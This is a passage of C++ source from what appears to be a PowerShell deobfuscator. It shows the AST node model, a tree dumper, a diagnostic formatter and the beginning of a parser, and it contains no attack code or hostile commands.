std::string escape_payload(std::string_view s, std::size_t max_len) {
  std::string out;
  for (char c : s) {
    if (out.size() >= max_len) {
      out += "...";
      break;
    }
    switch (c) {
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      case '\r': out += "\\r"; break;
      default: out.push_back(c); break;
    }
  }
  return out;
}

std::string payload_of(const Ast& node, const DumpOptions& opts) {
  switch (node.kind()) {
    case NodeKind::StringConstantExpression:
      return "'" +
             escape_payload(
                 static_cast<const StringConstantExpressionAst&>(node).value,
                 opts.max_payload) +
             "'";
    case NodeKind::ExpandableStringExpression:
      return "\"" +
             escape_payload(
                 static_cast<const ExpandableStringExpressionAst&>(node).raw,
                 opts.max_payload) +
             "\"";
    case NodeKind::ConstantExpression:
      return static_cast<const ConstantExpressionAst&>(node)
          .value.to_display_string();
    case NodeKind::VariableExpression:
      return "$" + static_cast<const VariableExpressionAst&>(node).name;
    case NodeKind::BinaryExpression:
      return static_cast<const BinaryExpressionAst&>(node).op;
    case NodeKind::UnaryExpression:
      return static_cast<const UnaryExpressionAst&>(node).op;
    case NodeKind::ConvertExpression:
      return "[" + static_cast<const ConvertExpressionAst&>(node).type_name + "]";
    case NodeKind::TypeExpression:
      return "[" + static_cast<const TypeExpressionAst&>(node).type_name + "]";
    case NodeKind::Command: {
      const std::string name =
          static_cast<const CommandAst&>(node).constant_name();
      return name.empty() ? "<dynamic>" : name;
    }
    case NodeKind::CommandParameter:
      return static_cast<const CommandParameterAst&>(node).name;
    case NodeKind::FunctionDefinition:
      return static_cast<const FunctionDefinitionAst&>(node).name;
    case NodeKind::AssignmentStatement:
      return static_cast<const AssignmentStatementAst&>(node).op;
    case NodeKind::MemberExpression:
    case NodeKind::InvokeMemberExpression: {
      const auto& mem = static_cast<const MemberExpressionAst&>(node);
      const std::string m = mem.constant_member();
      return (mem.is_static ? "::" : ".") + (m.empty() ? "<dynamic>" : m);
    }
    default:
      return "";
  }
}

void dump_node(const Ast& node, std::string_view source, const DumpOptions& opts,
               int depth, std::ostringstream& out) {
  for (int i = 0; i < depth; ++i) out << "  ";
  out << to_string(node.kind());
  if (opts.mark_recoverable && is_recoverable_kind(node.kind())) out << "*";
  if (opts.show_extents) {
    out << " [" << node.start() << "," << node.end() << ")";
  }
  const std::string payload = payload_of(node, opts);
  if (!payload.empty()) out << "  " << payload;
  out << "\n";
  for (const Ast* child : node.children()) {
    dump_node(*child, source, opts, depth + 1, out);
  }
}

}  // namespace

std::string dump_ast(const Ast& node, std::string_view source,
                     DumpOptions options) {
  std::ostringstream out;
  dump_node(node, source, options, 0, out);
  return out.str();
}

std::string dump_script(std::string_view source, DumpOptions options) {
  std::string error;
  auto root = try_parse(source, &error);
  if (root == nullptr) return "parse error: " + error + "\n";
  return dump_ast(*root, source, options);
}

}  // namespace ps
