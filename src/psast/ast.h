#pragma once

/// \file ast.h
/// PowerShell abstract-syntax-tree node model, mirroring the node taxonomy
/// of System.Management.Automation.Language that the paper builds on. The
/// six *recoverable* node kinds (PipelineAst, UnaryExpressionAst,
/// BinaryExpressionAst, ConvertExpressionAst, InvokeMemberExpressionAst,
/// SubExpressionAst) and the six scope-changing kinds of Algorithm 1
/// (NamedBlockAst, IfStatementAst, WhileStatementAst, ForStatementAst,
/// ForEachStatementAst, StatementBlockAst) all exist as distinct kinds.
///
/// Every node records its exact source extent [start, end) so the
/// deobfuscator can replace obfuscated pieces strictly in place.

#include <functional>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "pslang/token.h"
#include "psvalue/arena.h"
#include "psvalue/value.h"

namespace ps {

enum class NodeKind {
  ScriptBlock,
  ParamBlock,
  Parameter,
  NamedBlock,
  StatementBlock,
  Pipeline,
  Command,
  CommandExpression,
  CommandParameter,
  AssignmentStatement,
  IfStatement,
  WhileStatement,
  DoWhileStatement,
  ForStatement,
  ForEachStatement,
  SwitchStatement,
  FunctionDefinition,
  TryStatement,
  ReturnStatement,
  BreakStatement,
  ContinueStatement,
  ThrowStatement,
  BinaryExpression,
  UnaryExpression,
  ConvertExpression,
  TypeExpression,
  ConstantExpression,
  StringConstantExpression,
  ExpandableStringExpression,
  VariableExpression,
  MemberExpression,
  InvokeMemberExpression,
  IndexExpression,
  ArrayLiteral,
  ArrayExpression,
  HashtableExpression,
  ParenExpression,
  SubExpression,
  ScriptBlockExpression,
};

std::string_view to_string(NodeKind kind);

class Ast;

/// Non-owning handle to an arena-allocated node; the owning Arena is
/// carried alongside the root (see ParsedScript below).
using AstPtr = ArenaPtr<Ast>;

/// Base class of all AST nodes.
class Ast {
 public:
  Ast(NodeKind kind, std::size_t start, std::size_t end)
      : kind_(kind), start_(start), end_(end) {}
  virtual ~Ast() = default;

  Ast(const Ast&) = delete;
  Ast& operator=(const Ast&) = delete;

  [[nodiscard]] NodeKind kind() const { return kind_; }
  [[nodiscard]] std::size_t start() const { return start_; }
  [[nodiscard]] std::size_t end() const { return end_; }
  void set_extent(std::size_t start, std::size_t end) {
    start_ = start;
    end_ = end;
  }

  /// Parent node, set after parsing; null for the root.
  [[nodiscard]] const Ast* parent() const { return parent_; }
  void set_parent(const Ast* p) { parent_ = p; }

  /// The raw source slice this node covers.
  [[nodiscard]] std::string_view text_in(std::string_view source) const {
    return source.substr(start_, end_ - start_);
  }

  /// Direct children in source order (non-owning).
  [[nodiscard]] std::vector<const Ast*> children() const {
    std::vector<const Ast*> out;
    collect_children(out);
    return out;
  }

  /// Calls `fn` on every node of the subtree in post-order (children before
  /// parents, source order among siblings) — the traversal both the
  /// variable-tracing algorithm and script reconstruction use.
  void post_order(const std::function<void(const Ast&)>& fn) const;

 protected:
  virtual void collect_children(std::vector<const Ast*>& out) const = 0;
  static void add(std::vector<const Ast*>& out, const Ast* node) {
    if (node != nullptr) out.push_back(node);
  }

 private:
  NodeKind kind_;
  std::size_t start_;
  std::size_t end_;
  const Ast* parent_ = nullptr;
};

// --------------------------------------------------------------- structure

class ParameterAst final : public Ast {
 public:
  ParameterAst(std::size_t s, std::size_t e, std::string_view name,
               AstPtr def)
      : Ast(NodeKind::Parameter, s, e), name(name),
        default_value(std::move(def)) {}
  std::string name;      ///< without the `$`
  AstPtr default_value;  ///< may be null

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, default_value.get());
  }
};

class ParamBlockAst final : public Ast {
 public:
  ParamBlockAst(std::size_t s, std::size_t e,
                std::vector<ArenaPtr<ParameterAst>> params)
      : Ast(NodeKind::ParamBlock, s, e), parameters(std::move(params)) {}
  std::vector<ArenaPtr<ParameterAst>> parameters;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& p : parameters) add(out, p.get());
  }
};

/// begin/process/end block, or the implicit unnamed (end) block. Scripts
/// without explicit named blocks get a single NamedBlockAst wrapper, as in
/// real PowerShell.
class NamedBlockAst final : public Ast {
 public:
  enum class BlockName { Unnamed, Begin, Process, End };
  NamedBlockAst(std::size_t s, std::size_t e, BlockName name,
                std::vector<AstPtr> stmts)
      : Ast(NodeKind::NamedBlock, s, e), name(name),
        statements(std::move(stmts)) {}
  BlockName name;
  std::vector<AstPtr> statements;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& st : statements) add(out, st.get());
  }
};

class ScriptBlockAst final : public Ast {
 public:
  ScriptBlockAst(std::size_t s, std::size_t e,
                 ArenaPtr<ParamBlockAst> params,
                 std::vector<ArenaPtr<NamedBlockAst>> blocks)
      : Ast(NodeKind::ScriptBlock, s, e), param_block(std::move(params)),
        named_blocks(std::move(blocks)) {}
  ArenaPtr<ParamBlockAst> param_block;  ///< may be null
  std::vector<ArenaPtr<NamedBlockAst>> named_blocks;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, param_block.get());
    for (const auto& b : named_blocks) add(out, b.get());
  }
};

/// `{ statement* }` used as a statement body (if/while/function bodies).
class StatementBlockAst final : public Ast {
 public:
  StatementBlockAst(std::size_t s, std::size_t e, std::vector<AstPtr> stmts)
      : Ast(NodeKind::StatementBlock, s, e), statements(std::move(stmts)) {}
  std::vector<AstPtr> statements;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& st : statements) add(out, st.get());
  }
};

// --------------------------------------------------------------- statements

/// One pipeline: elements joined by `|`. A bare expression statement is a
/// pipeline with a single CommandExpression element. Pipelines are one of
/// the paper's recoverable node kinds.
class PipelineAst final : public Ast {
 public:
  PipelineAst(std::size_t s, std::size_t e, std::vector<AstPtr> elems)
      : Ast(NodeKind::Pipeline, s, e), elements(std::move(elems)) {}
  std::vector<AstPtr> elements;  ///< CommandAst or CommandExpressionAst

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& el : elements) add(out, el.get());
  }
};

/// A command invocation: name element followed by parameters/arguments.
class CommandAst final : public Ast {
 public:
  enum class Invocation { None, Ampersand, Dot };
  CommandAst(std::size_t s, std::size_t e, Invocation inv,
             std::vector<AstPtr> elems)
      : Ast(NodeKind::Command, s, e), invocation(inv),
        elements(std::move(elems)) {}
  Invocation invocation;
  std::vector<AstPtr> elements;  ///< first element is the command name node

  /// The command name if it is a constant (bareword or literal string).
  [[nodiscard]] std::string constant_name() const;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& el : elements) add(out, el.get());
  }
};

/// A pipeline element that is a plain expression.
class CommandExpressionAst final : public Ast {
 public:
  CommandExpressionAst(std::size_t s, std::size_t e, AstPtr expr)
      : Ast(NodeKind::CommandExpression, s, e), expression(std::move(expr)) {}
  AstPtr expression;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, expression.get());
  }
};

class CommandParameterAst final : public Ast {
 public:
  CommandParameterAst(std::size_t s, std::size_t e, std::string_view name,
                      AstPtr argument)
      : Ast(NodeKind::CommandParameter, s, e), name(name),
        argument(std::move(argument)) {}
  std::string name;  ///< with the leading dash, e.g. "-EncodedCommand"
  AstPtr argument;   ///< only for `-Name:value` forms; may be null

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, argument.get());
  }
};

class AssignmentStatementAst final : public Ast {
 public:
  AssignmentStatementAst(std::size_t s, std::size_t e, AstPtr lhs,
                         std::string_view op, AstPtr rhs)
      : Ast(NodeKind::AssignmentStatement, s, e), left(std::move(lhs)),
        op(op), right(std::move(rhs)) {}
  AstPtr left;     ///< VariableExpression / IndexExpression / MemberExpression
  std::string op;  ///< "=", "+=", ...
  AstPtr right;    ///< statement (usually a PipelineAst)

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, left.get());
    add(out, right.get());
  }
};

class IfStatementAst final : public Ast {
 public:
  struct Clause {
    AstPtr condition;  ///< pipeline
    AstPtr body;       ///< StatementBlockAst
  };
  IfStatementAst(std::size_t s, std::size_t e, std::vector<Clause> clauses,
                 AstPtr else_body)
      : Ast(NodeKind::IfStatement, s, e), clauses(std::move(clauses)),
        else_body(std::move(else_body)) {}
  std::vector<Clause> clauses;
  AstPtr else_body;  ///< may be null

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& c : clauses) {
      add(out, c.condition.get());
      add(out, c.body.get());
    }
    add(out, else_body.get());
  }
};

class WhileStatementAst final : public Ast {
 public:
  WhileStatementAst(std::size_t s, std::size_t e, AstPtr cond, AstPtr body)
      : Ast(NodeKind::WhileStatement, s, e), condition(std::move(cond)),
        body(std::move(body)) {}
  AstPtr condition;
  AstPtr body;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, condition.get());
    add(out, body.get());
  }
};

class DoWhileStatementAst final : public Ast {
 public:
  DoWhileStatementAst(std::size_t s, std::size_t e, AstPtr body, AstPtr cond,
                      bool until)
      : Ast(NodeKind::DoWhileStatement, s, e), body(std::move(body)),
        condition(std::move(cond)), is_until(until) {}
  AstPtr body;
  AstPtr condition;
  bool is_until;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, body.get());
    add(out, condition.get());
  }
};

class ForStatementAst final : public Ast {
 public:
  ForStatementAst(std::size_t s, std::size_t e, AstPtr init, AstPtr cond,
                  AstPtr iter, AstPtr body)
      : Ast(NodeKind::ForStatement, s, e), initializer(std::move(init)),
        condition(std::move(cond)), iterator(std::move(iter)),
        body(std::move(body)) {}
  AstPtr initializer;  ///< may be null
  AstPtr condition;    ///< may be null
  AstPtr iterator;     ///< may be null
  AstPtr body;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, initializer.get());
    add(out, condition.get());
    add(out, iterator.get());
    add(out, body.get());
  }
};

class ForEachStatementAst final : public Ast {
 public:
  ForEachStatementAst(std::size_t s, std::size_t e, AstPtr var, AstPtr expr,
                      AstPtr body)
      : Ast(NodeKind::ForEachStatement, s, e), variable(std::move(var)),
        enumerable(std::move(expr)), body(std::move(body)) {}
  AstPtr variable;    ///< VariableExpressionAst
  AstPtr enumerable;  ///< pipeline
  AstPtr body;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, variable.get());
    add(out, enumerable.get());
    add(out, body.get());
  }
};

class SwitchStatementAst final : public Ast {
 public:
  struct Clause {
    AstPtr pattern;  ///< expression, or null for `default`
    AstPtr body;     ///< StatementBlockAst
  };
  SwitchStatementAst(std::size_t s, std::size_t e, AstPtr cond,
                     std::vector<Clause> clauses)
      : Ast(NodeKind::SwitchStatement, s, e), condition(std::move(cond)),
        clauses(std::move(clauses)) {}
  AstPtr condition;
  std::vector<Clause> clauses;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, condition.get());
    for (const auto& c : clauses) {
      add(out, c.pattern.get());
      add(out, c.body.get());
    }
  }
};

class FunctionDefinitionAst final : public Ast {
 public:
  FunctionDefinitionAst(std::size_t s, std::size_t e, std::string_view name,
                        std::vector<ArenaPtr<ParameterAst>> params,
                        AstPtr body, bool filter)
      : Ast(NodeKind::FunctionDefinition, s, e), name(name),
        parameters(std::move(params)), body(std::move(body)),
        is_filter(filter) {}
  std::string name;
  std::vector<ArenaPtr<ParameterAst>> parameters;
  AstPtr body;  ///< ScriptBlockAst
  bool is_filter;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& p : parameters) add(out, p.get());
    add(out, body.get());
  }
};

class TryStatementAst final : public Ast {
 public:
  TryStatementAst(std::size_t s, std::size_t e, AstPtr body,
                  std::vector<AstPtr> catch_bodies, AstPtr finally_body)
      : Ast(NodeKind::TryStatement, s, e), body(std::move(body)),
        catch_bodies(std::move(catch_bodies)),
        finally_body(std::move(finally_body)) {}
  AstPtr body;
  std::vector<AstPtr> catch_bodies;  ///< one StatementBlock per catch clause
  AstPtr finally_body;               ///< may be null

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, body.get());
    for (const auto& c : catch_bodies) add(out, c.get());
    add(out, finally_body.get());
  }
};

/// return / break / continue / throw, with an optional pipeline operand.
class FlowStatementAst final : public Ast {
 public:
  FlowStatementAst(NodeKind kind, std::size_t s, std::size_t e, AstPtr operand)
      : Ast(kind, s, e), operand(std::move(operand)) {}
  AstPtr operand;  ///< may be null

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, operand.get());
  }
};

// -------------------------------------------------------------- expressions

class BinaryExpressionAst final : public Ast {
 public:
  BinaryExpressionAst(std::size_t s, std::size_t e, AstPtr lhs,
                      std::string_view op, AstPtr rhs)
      : Ast(NodeKind::BinaryExpression, s, e), left(std::move(lhs)),
        op(op), right(std::move(rhs)) {}
  AstPtr left;
  std::string op;  ///< canonical lowercase: "+", "-f", "-join", "-bxor", ...
  AstPtr right;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, left.get());
    add(out, right.get());
  }
};

class UnaryExpressionAst final : public Ast {
 public:
  UnaryExpressionAst(std::size_t s, std::size_t e, std::string_view op,
                     AstPtr child)
      : Ast(NodeKind::UnaryExpression, s, e), op(op),
        child(std::move(child)) {}
  std::string op;  ///< "-", "!", "-not", "-join", "-split", "-bnot", ","
  AstPtr child;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, child.get());
  }
};

/// `[type] expr` cast.
class ConvertExpressionAst final : public Ast {
 public:
  ConvertExpressionAst(std::size_t s, std::size_t e,
                       std::string_view type_name, AstPtr child)
      : Ast(NodeKind::ConvertExpression, s, e), type_name(type_name),
        child(std::move(child)) {}
  std::string type_name;  ///< inner text of the brackets, whitespace-stripped
  AstPtr child;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, child.get());
  }
};

/// `[type]` used as a value (usually before `::`).
class TypeExpressionAst final : public Ast {
 public:
  TypeExpressionAst(std::size_t s, std::size_t e, std::string_view type_name)
      : Ast(NodeKind::TypeExpression, s, e), type_name(type_name) {}
  std::string type_name;

 protected:
  void collect_children(std::vector<const Ast*>&) const override {}
};

class ConstantExpressionAst final : public Ast {
 public:
  ConstantExpressionAst(std::size_t s, std::size_t e, Value value)
      : Ast(NodeKind::ConstantExpression, s, e), value(std::move(value)) {}
  Value value;

 protected:
  void collect_children(std::vector<const Ast*>&) const override {}
};

class StringConstantExpressionAst final : public Ast {
 public:
  StringConstantExpressionAst(std::size_t s, std::size_t e,
                              std::string_view value, QuoteKind quote)
      : Ast(NodeKind::StringConstantExpression, s, e), value(value),
        quote(quote) {}
  std::string value;  ///< cooked content
  QuoteKind quote;

 protected:
  void collect_children(std::vector<const Ast*>&) const override {}
};

/// Double-quoted string containing `$` interpolation; `raw` is the inner
/// text with escapes unprocessed (processed together with interpolation at
/// evaluation time).
class ExpandableStringExpressionAst final : public Ast {
 public:
  ExpandableStringExpressionAst(std::size_t s, std::size_t e,
                                std::string_view raw, QuoteKind quote)
      : Ast(NodeKind::ExpandableStringExpression, s, e), raw(raw),
        quote(quote) {}
  std::string raw;
  QuoteKind quote;

 protected:
  void collect_children(std::vector<const Ast*>&) const override {}
};

class VariableExpressionAst final : public Ast {
 public:
  VariableExpressionAst(std::size_t s, std::size_t e, std::string_view name)
      : Ast(NodeKind::VariableExpression, s, e), name(name) {}
  std::string name;  ///< as written, possibly with scope qualifier ("env:X")

  /// Name without any scope qualifier, lowercased.
  [[nodiscard]] std::string bare_name() const;
  /// Scope qualifier lowercased ("env", "global", ...) or "".
  [[nodiscard]] std::string scope_qualifier() const;

 protected:
  void collect_children(std::vector<const Ast*>&) const override {}
};

class MemberExpressionAst : public Ast {
 public:
  MemberExpressionAst(std::size_t s, std::size_t e, AstPtr target, AstPtr member,
                      bool is_static)
      : Ast(NodeKind::MemberExpression, s, e), target(std::move(target)),
        member(std::move(member)), is_static(is_static) {}
  MemberExpressionAst(NodeKind kind, std::size_t s, std::size_t e, AstPtr target,
                      AstPtr member, bool is_static)
      : Ast(kind, s, e), target(std::move(target)), member(std::move(member)),
        is_static(is_static) {}
  AstPtr target;
  AstPtr member;  ///< usually a StringConstantExpression
  bool is_static;

  /// Member name if constant, lowercased; "" otherwise.
  [[nodiscard]] std::string constant_member() const;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, target.get());
    add(out, member.get());
  }
};

/// `target.Member(args...)` — one of the paper's recoverable node kinds.
class InvokeMemberExpressionAst final : public MemberExpressionAst {
 public:
  InvokeMemberExpressionAst(std::size_t s, std::size_t e, AstPtr target,
                            AstPtr member, bool is_static,
                            std::vector<AstPtr> args)
      : MemberExpressionAst(NodeKind::InvokeMemberExpression, s, e,
                            std::move(target), std::move(member), is_static),
        arguments(std::move(args)) {}
  std::vector<AstPtr> arguments;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, target.get());
    add(out, member.get());
    for (const auto& a : arguments) add(out, a.get());
  }
};

class IndexExpressionAst final : public Ast {
 public:
  IndexExpressionAst(std::size_t s, std::size_t e, AstPtr target, AstPtr index)
      : Ast(NodeKind::IndexExpression, s, e), target(std::move(target)),
        index(std::move(index)) {}
  AstPtr target;
  AstPtr index;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, target.get());
    add(out, index.get());
  }
};

/// `a, b, c` comma list.
class ArrayLiteralAst final : public Ast {
 public:
  ArrayLiteralAst(std::size_t s, std::size_t e, std::vector<AstPtr> elems)
      : Ast(NodeKind::ArrayLiteral, s, e), elements(std::move(elems)) {}
  std::vector<AstPtr> elements;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& el : elements) add(out, el.get());
  }
};

/// `@( statements )`.
class ArrayExpressionAst final : public Ast {
 public:
  ArrayExpressionAst(std::size_t s, std::size_t e, std::vector<AstPtr> stmts)
      : Ast(NodeKind::ArrayExpression, s, e), statements(std::move(stmts)) {}
  std::vector<AstPtr> statements;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& st : statements) add(out, st.get());
  }
};

class HashtableExpressionAst final : public Ast {
 public:
  struct Entry {
    AstPtr key;
    AstPtr value;
  };
  HashtableExpressionAst(std::size_t s, std::size_t e, std::vector<Entry> entries)
      : Ast(NodeKind::HashtableExpression, s, e), entries(std::move(entries)) {}
  std::vector<Entry> entries;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& en : entries) {
      add(out, en.key.get());
      add(out, en.value.get());
    }
  }
};

/// `( pipeline )`.
class ParenExpressionAst final : public Ast {
 public:
  ParenExpressionAst(std::size_t s, std::size_t e, AstPtr pipeline)
      : Ast(NodeKind::ParenExpression, s, e), pipeline(std::move(pipeline)) {}
  AstPtr pipeline;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, pipeline.get());
  }
};

/// `$( statements )` — one of the paper's recoverable node kinds.
class SubExpressionAst final : public Ast {
 public:
  SubExpressionAst(std::size_t s, std::size_t e, std::vector<AstPtr> stmts)
      : Ast(NodeKind::SubExpression, s, e), statements(std::move(stmts)) {}
  std::vector<AstPtr> statements;

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    for (const auto& st : statements) add(out, st.get());
  }
};

/// `{ statements }` used as a value.
class ScriptBlockExpressionAst final : public Ast {
 public:
  ScriptBlockExpressionAst(std::size_t s, std::size_t e, AstPtr script_block,
                           std::string_view body_text)
      : Ast(NodeKind::ScriptBlockExpression, s, e),
        script_block(std::move(script_block)), body_text(body_text) {}
  AstPtr script_block;    ///< ScriptBlockAst
  std::string body_text;  ///< inner text without the braces

 protected:
  void collect_children(std::vector<const Ast*>& out) const override {
    add(out, script_block.get());
  }
};

/// True for the six node kinds the paper identifies as recoverable.
bool is_recoverable_kind(NodeKind kind);

/// True for the six node kinds that change variable scope in Algorithm 1.
bool is_scope_kind(NodeKind kind);

/// Links parent pointers across the whole subtree rooted at `root`.
void link_parents(Ast& root);

/// Owning handle for one parse: the Arena holding every node plus the root.
/// Behaves like a (const) smart pointer to the root. Copies share the arena
/// — a cached parse is handed out with a single refcount bump — and the
/// whole tree is torn down when the last handle drops, even if the cache
/// entry that produced it has long been evicted.
class ParsedScript {
 public:
  ParsedScript() = default;
  ParsedScript(std::shared_ptr<Arena> arena, const ScriptBlockAst* root)
      : arena_(std::move(arena)), root_(root) {}

  [[nodiscard]] const ScriptBlockAst* get() const { return root_; }
  const ScriptBlockAst& operator*() const { return *root_; }
  const ScriptBlockAst* operator->() const { return root_; }
  explicit operator bool() const { return root_ != nullptr; }
  friend bool operator==(const ParsedScript& p, std::nullptr_t) {
    return p.root_ == nullptr;
  }

  [[nodiscard]] const std::shared_ptr<Arena>& arena() const { return arena_; }
  void reset() {
    root_ = nullptr;
    arena_.reset();
  }

 private:
  std::shared_ptr<Arena> arena_;
  const ScriptBlockAst* root_ = nullptr;
};

}  // namespace ps
