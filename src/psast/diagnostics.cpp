#include "psast/diagnostics.h"

#include <sstream>
#include <algorithm>

namespace ps {

SourcePosition position_of(std::string_view source, std::size_t offset) {
  SourcePosition pos;
  const std::size_t limit = std::min(offset, source.size());
  for (std::size_t i = 0; i < limit; ++i) {
    if (source[i] == '\n') {
      pos.line++;
      pos.column = 1;
    } else {
      pos.column++;
    }
  }
  return pos;
}

std::string format_diagnostic(std::string_view source, std::size_t offset,
                              std::string_view message) {
  const SourcePosition pos = position_of(source, offset);

  // Extract the offending line.
  std::size_t line_start = std::min(offset, source.size());
  while (line_start > 0 && source[line_start - 1] != '\n') --line_start;
  std::size_t line_end = line_start;
  while (line_end < source.size() && source[line_end] != '\n') ++line_end;
  std::string line(source.substr(line_start, line_end - line_start));
  // Tabs would misalign the caret; display them as single spaces.
  for (char& c : line) {
    if (c == '\t') c = ' ';
  }

  std::ostringstream out;
  out << "error at line " << pos.line << ", column " << pos.column << ": "
      << message << "\n";
  constexpr std::size_t kMaxLine = 120;
  std::size_t caret = pos.column > 0 ? static_cast<std::size_t>(pos.column - 1) : 0;
  if (line.size() > kMaxLine) {
    // Window the line around the caret.
    const std::size_t begin = caret > kMaxLine / 2 ? caret - kMaxLine / 2 : 0;
    line = (begin > 0 ? "..." : "") + line.substr(begin, kMaxLine);
    caret = caret - begin + (begin > 0 ? 3 : 0);
  }
  out << "    " << line << "\n";
  out << "    " << std::string(std::min(caret, line.size()), ' ') << "^\n";
  return out.str();
}

}  // namespace ps
