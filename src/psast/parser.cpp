#include "psast/parser.h"

#include <array>
#include <atomic>
#include <cstdlib>

#include "pslang/alias_table.h"
#include "pslang/lexer.h"
#include "telemetry/telemetry.h"

namespace ps {

namespace {

Value parse_number_token(std::string_view content) {
  std::string s = to_lower(content);
  if (s.rfind("0x", 0) == 0) {
    return Value(static_cast<std::int64_t>(std::strtoll(s.c_str() + 2, nullptr, 16)));
  }
  std::int64_t mult = 1;
  if (s.size() >= 2) {
    const std::string suffix = s.substr(s.size() - 2);
    if (suffix == "kb") mult = 1024LL;
    else if (suffix == "mb") mult = 1024LL * 1024;
    else if (suffix == "gb") mult = 1024LL * 1024 * 1024;
    else if (suffix == "tb") mult = 1024LL * 1024 * 1024 * 1024;
    else if (suffix == "pb") mult = 1024LL * 1024 * 1024 * 1024 * 1024;
    if (mult != 1) s = s.substr(0, s.size() - 2);
  }
  if (!s.empty() && (s.back() == 'l' || s.back() == 'd')) s.pop_back();
  if (s.find('.') != std::string::npos || s.find('e') != std::string::npos) {
    return Value(std::strtod(s.c_str(), nullptr) * static_cast<double>(mult));
  }
  return Value(static_cast<std::int64_t>(std::strtoll(s.c_str(), nullptr, 10)) * mult);
}

bool is_op(const Token& t, std::string_view op) {
  return t.type == TokenType::Operator && iequals(t.content, op);
}
bool is_kw(const Token& t, std::string_view kw) {
  return t.type == TokenType::Keyword && iequals(t.content, kw);
}
bool is_group_start(const Token& t, std::string_view g) {
  return t.type == TokenType::GroupStart && t.content == g;
}
bool is_group_end(const Token& t, std::string_view g) {
  return t.type == TokenType::GroupEnd && t.content == g;
}

/// Numeric barewords in argument position ("Start-Sleep 5") bind as numbers,
/// as PSParser does.
bool is_pure_number(std::string_view s) {
  if (s.empty()) return false;
  std::size_t i = s[0] == '-' ? 1 : 0;
  if (i >= s.size()) return false;
  bool dot = false;
  for (; i < s.size(); ++i) {
    if (s[i] == '.') {
      if (dot) return false;
      dot = true;
      continue;
    }
    if (!std::isdigit(static_cast<unsigned char>(s[i]))) return false;
  }
  return true;
}

AstPtr make_command_word(Arena& arena, const Token& w) {
  if (is_pure_number(w.content)) {
    return arena.make<ConstantExpressionAst>(w.start, w.end(),
                                             parse_number_token(w.content));
  }
  return arena.make<StringConstantExpressionAst>(w.start, w.end(), w.content,
                                                 QuoteKind::None);
}

bool is_assignment_op(const Token& t) {
  if (t.type != TokenType::Operator) return false;
  return t.content == "=" || t.content == "+=" || t.content == "-=" ||
         t.content == "*=" || t.content == "/=" || t.content == "%=";
}

constexpr std::array<std::string_view, 3> kLogicalOps = {"-and", "-or", "-xor"};
constexpr std::array<std::string_view, 5> kBitwiseOps = {"-band", "-bor", "-bxor",
                                                         "-shl", "-shr"};
constexpr std::array<std::string_view, 35> kComparisonOps = {
    "-eq",    "-ne",       "-gt",          "-lt",      "-ge",      "-le",
    "-ceq",   "-cne",      "-ieq",         "-ine",     "-like",    "-notlike",
    "-clike", "-ilike",    "-match",       "-notmatch", "-cmatch", "-imatch",
    "-contains", "-notcontains", "-in",    "-notin",   "-replace", "-creplace",
    "-ireplace", "-split", "-csplit",      "-isplit",  "-join",    "-cjoin",
    "-ijoin", "-is",       "-isnot",       "-as",      "-ne"};
constexpr std::array<std::string_view, 2> kAdditiveOps = {"+", "-"};
constexpr std::array<std::string_view, 3> kMultiplicativeOps = {"*", "/", "%"};
constexpr std::array<std::string_view, 8> kUnaryOps = {
    "-", "+", "!", "-not", "-join", "-split", "-bnot", ","};

template <std::size_t N>
bool token_in(const Token& t, const std::array<std::string_view, N>& ops) {
  if (t.type != TokenType::Operator) return false;
  for (auto op : ops) {
    if (iequals(t.content, op)) return true;
  }
  return false;
}

class Parser {
 public:
  Parser(TokenStream tokens, std::size_t source_size, Arena& arena)
      : arena_(&arena), stream_(std::move(tokens)),
        source_size_(source_size) {
    // Tokens are cheap views; filtering copies them but shares the pinned
    // buffers through stream_, which must outlive toks_.
    toks_.reserve(stream_.size());
    for (const auto& t : stream_) {
      if (t.type == TokenType::Comment || t.type == TokenType::LineContinuation) {
        continue;
      }
      toks_.push_back(t);
    }
  }

  ScriptBlockAst* parse_script() {
    auto sb = parse_script_block_body(0, source_size_, "");
    if (!done()) fail("unexpected token '" + std::string(cur().text) + "'");
    link_parents(*sb);
    return sb.get();
  }

 private:
  /// All nodes are built here; the caller owns the arena and with it the
  /// whole tree, so the parser itself never frees anything.
  Arena* arena_;
  template <class T, class... Args>
  ArenaPtr<T> mk(Args&&... args) {
    return ArenaPtr<T>(arena_->make<T>(std::forward<Args>(args)...));
  }

  TokenStream stream_;
  std::vector<Token> toks_;
  std::size_t source_size_;
  std::size_t i_ = 0;
  int ignore_newlines_ = 0;
